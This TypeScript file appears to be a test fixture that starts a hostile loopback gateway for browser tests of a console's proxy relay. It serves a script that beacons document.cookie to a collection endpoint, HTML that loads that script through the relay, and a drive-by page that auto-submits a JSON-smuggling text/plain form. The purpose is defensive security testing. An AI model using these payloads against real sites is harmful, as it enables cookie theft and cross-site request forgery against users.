import { createServer, type IncomingMessage, type Server } from 'node:http';
import { listenOnLoopback } from '../src/testing/hostile-gateway/listen-on-loopback';

/**
 * A gateway that tries to get its markup and script run at the console's origin, for the
 * proxy-mode browser tests (e2e/proxy-markup.spec.ts). Started in-process on port 0.
 *
 *   POST /api/speechSynthesis/textToSpeech  a good JSON answer whose targetAudioUrl is
 *                                            {origin}/files/<sourceText> (so a test picks the file)
 *   GET  /files/evil.js                      JavaScript that sets window.__pwned and reports home
 *   GET  /files/evil.html                    HTML loading the relayed evil.js as a 'self' script
 *   POST /api/textRemoval/taskStatus         the same HTML, as text/html (a drive-by's target)
 *   GET  /drive-by.html                      a page that auto-posts a text/plain form to the
 *                                            console's /api/textRemoval/taskStatus
 *   POST /collect                            where evil.js reports; `collected` counts the reports
 */
export type MarkupGateway = {
  origin: string;
  /** The relay URL, on the console, of one of this gateway's files. */
  relayUrl: (consoleOrigin: string, file: string) => string;
  /** Reports from evil.js that reached /collect. */
  readonly collected: number;
  setConsoleOrigin: (origin: string) => void;
  close: () => Promise<void>;
};

async function readText(req: IncomingMessage): Promise<string> {
  const chunks: Buffer[] = [];
  for await (const chunk of req) chunks.push(chunk as Buffer);
  return Buffer.concat(chunks).toString('utf8');
}

export async function startMarkupGateway(): Promise<MarkupGateway> {
  let origin = '';
  let consoleOrigin = '';
  let collected = 0;
  /** The relay path of a file, relative to the console (what a page at the console's origin names). */
  const relayPath = (file: string) => `/api/_console/audio?u=${encodeURIComponent(`${origin}/files/${file}`)}`;
  const evilJs = () =>
    `window.__pwned = (window.__pwned || 0) + 1; document.title = 'pwned'; ` +
    `navigator.sendBeacon(${JSON.stringify(`${origin}/collect`)}, document.cookie + localStorage.length);`;
  const evilHtml = () =>
    `<!doctype html><title>gateway page</title><script src="${relayPath('evil.js')}"></script>` +
    `<script>window.__pwned = (window.__pwned || 0) + 1</script><p>gateway markup</p>`;
  const driveBy = () =>
    `<!doctype html><title>drive-by</title>` +
    `<form method="post" enctype="text/plain" action="${consoleOrigin}/api/textRemoval/taskStatus">` +
    `<input name='{"taskId":"Service_AI_' value='x"}'></form><script>document.forms[0].submit()</script>`;

  const server: Server = createServer((req, res) => {
    const path = (req.url ?? '/').split('?')[0];
    void (async () => {
      if (req.method === 'POST' && path === '/api/speechSynthesis/textToSpeech') {
        const { sourceText } = JSON.parse(await readText(req)) as { sourceText: string };
        const answer = { code: 0, message: 'OK', data: { targetAudioUrl: `${origin}/files/${sourceText}`, taskId: 'Service_AI_1' } };
        return void res.writeHead(200, { 'Content-Type': 'application/json' }).end(JSON.stringify(answer));
      }
      if (req.method === 'POST' && path === '/api/textRemoval/taskStatus') {
        await readText(req);
        return void res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' }).end(evilHtml());
      }
      if (req.method === 'POST' && path === '/collect') {
        await readText(req);
        collected++;
        return void res.writeHead(204).end();
      }
      if (path === '/files/evil.js') return void res.writeHead(200, { 'Content-Type': 'application/javascript' }).end(evilJs());
      if (path === '/files/evil.html') return void res.writeHead(200, { 'Content-Type': 'text/html' }).end(evilHtml());
      if (path === '/drive-by.html') return void res.writeHead(200, { 'Content-Type': 'text/html' }).end(driveBy());
      res.writeHead(404, { 'Content-Type': 'application/json' }).end('{"code":404,"message":"no such route","data":null}');
    })().catch(() => res.destroy());
  });
  const listening = await listenOnLoopback(server);
  origin = listening.origin;
  return {
    origin,
    relayUrl: (console, file) => `${console}${relayPath(file)}`,
    get collected() {
      return collected;
    },
    setConsoleOrigin: (o) => void (consoleOrigin = o),
    close: listening.close,
  };
}
